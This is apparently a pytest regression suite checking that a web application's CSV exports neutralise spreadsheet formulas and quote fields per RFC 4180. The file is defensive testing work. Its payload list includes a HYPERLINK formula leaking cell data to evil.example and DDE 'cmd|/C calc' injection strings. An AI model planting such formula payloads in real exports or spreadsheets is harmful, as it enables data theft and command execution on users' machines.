"""Every CSV the product emits goes through one writer: RFC 4180 quoting and no spreadsheet formulas.

Found in an attack: names such as `=HYPERLINK(…)`, `@SUM(…)`, `+…`, `-…` went as-is into every `?format=csv`
export, `/runs/{id}/export.csv` and `/compare.csv` (only the simulation CSV escaped), and a bare CR inside a
field was not quoted, so the row split. Runs on both backends (the `client` fixture's database).
"""

from __future__ import annotations

import csv
import io
import uuid
from typing import Any

import pytest

from app.services import csv_export
from tests.fuzz.test_hostile_input import RESOURCES

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "\tTAB start",
    "\rCR start",
]
INSIDE = ["bare\rCR inside", 'quote " and, comma', "line\nfeed"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _parse(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows, "empty CSV"
    width = len(rows[0])
    assert all(len(row) == width for row in rows), "a row was split or merged"
    return rows


def _assert_safe(rows: list[list[str]], hostile: list[str]) -> None:
    cells = [c for row in rows for c in row]
    for c in cells:
        if c.startswith(FORMULA_STARTS):
            float(c)  # only a plain number may start with + or -
    for name in hostile:
        expected = "'" + name if name.startswith(FORMULA_STARTS) else name
        assert any(expected in c for c in cells), f"{name!r} missing or altered"


# ---- the writer itself ---------------------------------------------------------------------------------


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_text_gets_a_leading_quote(value: str) -> None:
    assert csv_export.cell(value) == "'" + value


@pytest.mark.parametrize("value", [-3.5, 0, 12, 1e-9, "-3.5", "+4", "1e6", "-0.25"])
def test_plain_numbers_are_untouched(value: Any) -> None:
    assert csv_export.cell(value) == value


def test_rfc_4180_quoting_and_crlf() -> None:
    text = csv_export.to_csv(["a", "b"], [["bare\rcr", 'q"c,d'], [None, 1.5]])
    assert text == 'a,b\r\n"bare\rcr","q""c,d"\r\n,1.5\r\n'
    assert _parse(text)[1] == ["bare\rcr", 'q"c,d']


# ---- every CSV route -----------------------------------------------------------------------------------


def _create(client, path: str, name: str, **extra: Any) -> dict[str, Any]:
    _, base, unique = RESOURCES[path]
    body = {**base, unique: name, **extra}
    answer = client.post(f"/api/v1/{path}", json=body)
    assert answer.status_code == 201, answer.text
    return answer.json()


@pytest.mark.parametrize("path", list(RESOURCES))
def test_list_csv_exports_are_safe(client, path: str) -> None:
    suffix = uuid.uuid4().hex[:6]
    _, _, unique = RESOURCES[path]
    # as stored (the API may trim surrounding white space)
    names = [_create(client, path, f"{n}{suffix}")[unique] for n in FORMULAS + INSIDE]
    assert sum(n.startswith(FORMULA_STARTS) for n in names) >= 4
    answer = client.get(f"/api/v1/{path}?format=csv&limit=1000&sort=-id")
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("text/csv")
    _assert_safe(_parse(answer.text), names)


@pytest.fixture
def hostile_run(client) -> dict[str, Any]:
    """A stored run whose name and strategy names are hostile, and a hostile scenario (for /compare)."""
    presets = client.get("/api/v1/simulations/presets").json()
    inputs = next(p for p in presets if p["slug"] == "article-strategies")["inputs"]
    suffix = uuid.uuid4().hex[:6]
    strategies = [
        {"name": f"{FORMULAS[0][:60]}{suffix}", "unit_cost_usd_per_million_tokens": 0.5},
        {"name": f"@SUM(1){suffix}", "unit_cost_usd_per_million_tokens": 0.4},
        {"name": f"bare\rCR{suffix}", "unit_cost_usd_per_million_tokens": 0.3},
    ]
    made = client.post(
        "/api/v1/simulations",
        json={
            "inputs": inputs,
            "strategies": strategies,
            "paths_count": 100,
            "name": f"=cmd|'/C calc'!A0 {suffix}",
            "use_cost_engine": False,
        },
    )
    assert made.status_code == 201, made.text
    scenario = client.post("/api/v1/scenarios", json={"name": f"+SUM(9) scenario {suffix}", "inputs": inputs})
    assert scenario.status_code == 201, scenario.text
    return {
        "run": made.json(),
        "strategies": [s["name"] for s in strategies],
        "scenario": scenario.json(),
    }


def test_simulation_csv_is_safe(client, hostile_run: dict[str, Any]) -> None:
    answer = client.get(f"/api/v1/simulations/{hostile_run['run']['id']}?format=csv")
    assert answer.status_code == 200
    _assert_safe(_parse(answer.text), hostile_run["strategies"])


@pytest.mark.parametrize("table", ["summary", "monthly"])
def test_run_table_csv_is_safe(client, hostile_run: dict[str, Any], table: str) -> None:
    run_id = hostile_run["run"]["id"]
    answer = client.get(f"/runs/{run_id}/export.csv?table={table}")
    assert answer.status_code == 200
    _assert_safe(_parse(answer.text), hostile_run["strategies"] if table == "summary" else [])


def test_compare_csv_is_safe(client, hostile_run: dict[str, Any]) -> None:
    run_id, scenario = hostile_run["run"]["id"], hostile_run["scenario"]
    answer = client.get(f"/compare.csv?scenario={scenario['id']}&run={run_id}")
    assert answer.status_code == 200
    _assert_safe(_parse(answer.text), [scenario["name"]])
